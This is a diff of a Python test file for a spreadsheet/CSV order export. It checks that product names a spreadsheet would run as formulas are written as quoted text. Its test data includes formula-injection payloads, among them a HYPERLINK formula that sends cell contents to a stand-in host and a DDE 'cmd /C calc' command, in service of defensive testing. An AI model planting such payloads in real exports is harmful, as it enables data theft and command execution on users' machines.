@@ -99,15 +99,30 @@ def test_a_day_is_written_as_soon_as_the_next_one_starts():
 
 
 @pytest.mark.parametrize(
-    "name",
-    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"],
-)
-def test_a_product_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(name):
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
+         '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r'=1"),
+        # A cell a ;-separated locale (or a tab, a line break) would start inside the name.
+        ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
+        ("Plain;@SUM(1+1)", "Plain;'@SUM(1+1)"),
+        ("x\t=1+1", "x\t'=1+1"),
+        ('a; "=1', 'a; "\'=1'),
+        ("a\n+1", "a\n'+1"),
+        ("  =1", "  '=1"),
+    ],
+)  # fmt: skip
+def test_a_formula_a_spreadsheet_would_run_from_a_product_name_is_written_as_text(name, cell):
     rows, _ = written([order(at(3), [Line(TEAPOT, name, 1, Decimal("2.00"))])])
-    assert rows[1][2] == "'" + name
+    assert rows[1][2] == cell
 
 
-@pytest.mark.parametrize("name", ["Teapot", "Cup = mug", "100% tea", "'quoted"])
+@pytest.mark.parametrize("name", ["Teapot", "Cup = mug", "100% tea", "'quoted", "Tea - green"])
 def test_any_other_product_name_is_written_as_it_is(name):
     rows, _ = written([order(at(3), [Line(TEAPOT, name, 1, Decimal("2.00"))])])
     assert rows[1][2] == name
